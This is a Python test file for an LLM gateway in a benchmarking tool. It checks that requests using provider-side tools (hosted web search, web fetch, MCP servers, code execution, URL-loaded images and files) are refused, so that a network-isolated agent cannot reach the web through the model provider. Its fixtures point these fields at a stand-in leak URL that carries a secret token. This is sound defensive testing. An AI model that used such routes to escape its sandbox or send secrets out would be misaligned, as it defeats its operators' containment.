"""Threat: an agent without network has the model provider reach the network for it. The gateway forwarded
requests carrying provider-side tools unchanged -- Responses web search, hosted MCP servers (``server_url``),
file search, code interpreter, image generation; Anthropic ``mcp_servers`` and the server tools web search, web
fetch and code execution with their ``anthropic-beta`` switches; Chat ``web_search_options`` -- and images or
files given by URL, which the provider downloads: the agent could read the web (answers included) or send what
it holds to any address inside a URL.

Each form is refused with an error body naming the field (``provider_tool_not_allowed``) and never reaches the
loopback provider, which records everything it receives; the enabling betas are dropped from the forwarded
header. A run that opts in (``reqbench run --allow-provider-tools``) forwards them unchanged, stores the option,
says so in every report and refuses a resume that would change it. Tools the agent runs itself still pass."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import httpx
import pytest

from reqbench.core.llm.gateway import Gateway, MemoryRecorder, Upstream
from reqbench.core.llm.gateway.scope import row_gateway, row_scope
from reqbench.core.store import RunStore
from tests.cli.generic_helpers import reqbench
from tests.core.toy_protocol import write_suite
from tests.support.scripted_openai import Reply, ScriptedOpenAI
from tests.support.wire import chat_body, messages_body, responses_body

REPLIES = {"chat": chat_body("ok"), "responses": responses_body("ok"), "messages": messages_body("ok")}
HOME = "https://collector.example/leak?secret=ci-token"
USER = {"role": "user", "content": "hi"}
FN_SCHEMA = {"type": "object", "properties": {"url": {"type": "string"}}}


def chat(**extra: Any) -> tuple[str, dict[str, Any], dict[str, str]]:
    return "chat", {"model": "scripted", "messages": [USER], **extra}, {}


def responses(**extra: Any) -> tuple[str, dict[str, Any], dict[str, str]]:
    return "responses", {"model": "scripted", "input": "hi", **extra}, {}


def messages(beta: str = "", **extra: Any) -> tuple[str, dict[str, Any], dict[str, str]]:
    return "messages", {"model": "scripted", "max_tokens": 50, "messages": [USER], **extra}, \
        {"anthropic-beta": beta} if beta else {}


PROVIDER_SIDE = {
    "responses web_search": (responses(tools=[{"type": "web_search"}]), "tools[0].type = 'web_search'"),
    "responses web_search_preview": (responses(tools=[{"type": "web_search_preview"}]), "'web_search_preview'"),
    "responses mcp server_url": (responses(tools=[{"type": "mcp", "server_label": "c", "server_url": HOME,
                                                   "require_approval": "never"}]), "tools[0].type = 'mcp'"),
    "responses file_search": (responses(tools=[{"type": "file_search", "vector_store_ids": ["vs_1"]}]),
                              "'file_search'"),
    "responses code_interpreter": (responses(tools=[{"type": "code_interpreter", "container": {"type": "auto"}}]),
                                   "'code_interpreter'"),
    "responses image_generation": (responses(tools=[{"type": "image_generation"}]), "'image_generation'"),
    "responses stored prompt": (responses(prompt={"id": "pmpt_1"}), "field 'prompt'"),
    "responses input_image url": (responses(input=[{"role": "user", "content": [
        {"type": "input_image", "image_url": HOME}]}]), "input[0].content[0].image_url"),
    "responses input_file url": (responses(input=[{"role": "user", "content": [
        {"type": "input_file", "file_url": HOME}]}]), "input[0].content[0].file_url"),
    "messages mcp_servers": (messages("mcp-client-2025-04-04", mcp_servers=[
        {"type": "url", "url": HOME, "name": "c"}]), "field 'mcp_servers'"),
    "messages web_search": (messages(tools=[{"type": "web_search_20250305", "name": "web_search"}]),
                            "tools[0].type = 'web_search_20250305'"),
    "messages web_fetch": (messages("web-fetch-2025-09-10", tools=[{"type": "web_fetch_20250910",
                                                                    "name": "web_fetch"}]), "'web_fetch_20250910'"),
    "messages code_execution": (messages("code-execution-2025-08-25", tools=[
        {"type": "code_execution_20250825", "name": "code_execution"}]), "'code_execution_20250825'"),
    "messages image by url": (messages(messages=[{"role": "user", "content": [
        {"type": "image", "source": {"type": "url", "url": HOME}}]}]), "messages[0].content[0].source.url"),
    "chat web_search_options": (chat(web_search_options={}), "field 'web_search_options'"),
    "chat hosted tool": (chat(tools=[{"type": "web_search"}]), "tools[0].type = 'web_search'"),
    "chat image_url": (chat(messages=[{"role": "user", "content": [
        {"type": "image_url", "image_url": {"url": HOME}}]}]), "messages[0].content[0].image_url.url"),
    "chat file by url": (chat(messages=[{"role": "user", "content": [
        {"type": "file", "file": {"filename": "a.pdf", "file_data": HOME}}]}]),
                         "messages[0].content[0].file.file_data"),
}
AGENT_SIDE = [
    chat(tools=[{"type": "function", "function": {"name": "fetch", "parameters": FN_SCHEMA}}],
         messages=[{"role": "user", "content": [{"type": "image_url",
                                                  "image_url": {"url": "data:image/png;base64,iVBORw0KGgo="}}]}]),
    responses(tools=[{"type": "function", "name": "shell", "parameters": FN_SCHEMA},
                     {"type": "custom", "name": "apply_patch"}, {"type": "local_shell"}]),
    messages("interleaved-thinking-2025-05-14,web-fetch-2025-09-10",
             tools=[{"name": "Bash", "input_schema": FN_SCHEMA}, {"type": "bash_20250124", "name": "bash"},
                    {"type": "text_editor_20250728", "name": "str_replace_based_edit_tool"}],
             messages=[USER, {"role": "assistant", "content": [  # the agent's own fetch tool, which it runs
                 {"type": "tool_use", "id": "t1", "name": "WebFetch", "input": {"url": HOME}}]},
                 {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t1", "content": "offline"}]}]),
]
PATHS = {"chat": "/chat/completions", "responses": "/responses", "messages": "/messages"}


def send(gw: Gateway, token: str, api: str, body: dict[str, Any], headers: dict[str, str]) -> httpx.Response:
    auth = {"x-api-key": token} if api == "messages" else {"Authorization": f"Bearer {token}"}
    return httpx.post(gw.base_url + PATHS[api], json=body, headers={**auth, **headers}, timeout=30)


def provider() -> ScriptedOpenAI:
    return ScriptedOpenAI(lambda body, i: Reply(body=REPLIES["messages" if "max_tokens" in body else
                                                             "responses" if "input" in body else "chat"]))


@pytest.mark.parametrize("form", PROVIDER_SIDE, ids=list(PROVIDER_SIDE))
def test_a_provider_side_tool_is_refused_unless_the_run_allows_it(form: str) -> None:
    (api, body, headers), field = PROVIDER_SIDE[form]
    with provider() as upstream:
        with Gateway(Upstream(upstream.base_url, "k"), recorder=MemoryRecorder()) as gw:
            lease = gw.open_row("row")
            refused = send(gw, lease.token, api, body, headers)
        assert upstream.requests == []  # it never reached the provider
        with row_scope("row", provider_tools=True), \
                row_gateway(Upstream(upstream.base_url, "k"), recorder=MemoryRecorder()) as (gw, lease):
            allowed = send(gw, lease.token, api, body, headers)
        assert allowed.status_code == 200 and len(upstream.requests) == 1
        received = upstream.requests[0]
    assert refused.status_code == 400, refused.text
    error = refused.json()["error"]
    code = error["reqbench"] if api == "messages" else error["code"]
    assert code == "provider_tool_not_allowed" and field in error["message"], error["message"]
    assert "--allow-provider-tools" in error["message"]
    assert {k: v for k, v in received["json"].items() if k != "stream"} == body  # forwarded unchanged
    assert received["headers"].get("anthropic-beta", "") == headers.get("anthropic-beta", "")


def test_tools_the_agent_runs_itself_still_pass_and_tool_betas_are_dropped() -> None:
    with provider() as upstream, Gateway(Upstream(upstream.base_url, "k"), recorder=MemoryRecorder()) as gw:
        lease = gw.open_row("row")
        answers = [send(gw, lease.token, api, body, headers).status_code for api, body, headers in AGENT_SIDE]
        received = upstream.requests
    assert answers == [200, 200, 200] and [r["json"]["tools"] for r in received] == [b["tools"] for _, b, _ in
                                                                                      AGENT_SIDE]
    assert received[2]["headers"]["anthropic-beta"] == "interleaved-thinking-2025-05-14"


def test_the_opt_in_is_stored_reported_and_fixed_on_resume(tmp_path: Path) -> None:
    suite = write_suite(tmp_path / "suite", [{"id": "t1", "value": 1}])
    run = tmp_path / "run"
    proc = reqbench("run", str(suite), "--agent", "reference", "--out", str(run), "--allow-provider-tools",
                    COLUMNS="400")
    assert proc.returncode == 0, proc.stderr
    with RunStore.open(run, read_only=True) as store:
        assert store.meta.options["allow_provider_tools"] is True
    said = "PROVIDER TOOLS allowed (--allow-provider-tools)"
    assert said in proc.stdout and said in reqbench("report", str(run), COLUMNS="400").stdout
    again = reqbench("run", str(suite), "--agent", "reference", "--out", str(run), "--resume", "--quiet")
    assert again.returncode == 2 and "allow_provider_tools" in again.stderr
    changed = reqbench("run", "--resume", str(run), "--allow-provider-tools", "--quiet")
    assert changed.returncode == 2 and "--allow-provider-tools cannot change a run" in changed.stderr
    plain = reqbench("run", str(suite), "--agent", "reference", "--out", str(tmp_path / "plain"), COLUMNS="400")
    assert plain.returncode == 0 and "PROVIDER TOOLS" not in plain.stdout
